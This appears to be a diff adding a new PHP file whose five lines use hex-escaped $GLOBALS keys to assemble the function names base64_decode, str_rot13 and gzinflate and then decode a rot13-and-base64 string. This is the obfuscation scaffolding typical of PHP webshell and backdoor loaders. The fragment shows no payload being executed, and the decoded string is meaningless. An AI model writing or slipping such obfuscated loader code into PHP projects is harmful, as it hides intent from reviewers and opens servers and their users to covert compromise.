@@ -0,0 +1,5 @@
+<?php
+${"GLOBALS"}["\x61\x62"] = "\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65";
+${"GLOBALS"}["\x63\x64"] = "\x73\x74\x72\x5f\x72\x6f\x74\x31\x33";
+${"GLOBALS"}["\x65\x66"] = "\x67\x7a\x69\x6e\x66\x6c\x61\x74\x65";
+${"GLOBALS"}["\x66\x61"] = ${"GLOBALS"}["\x61\x62"](${"GLOBALS"}["\x63\x64"]("nTSgLJAbMJ5xMJ4="));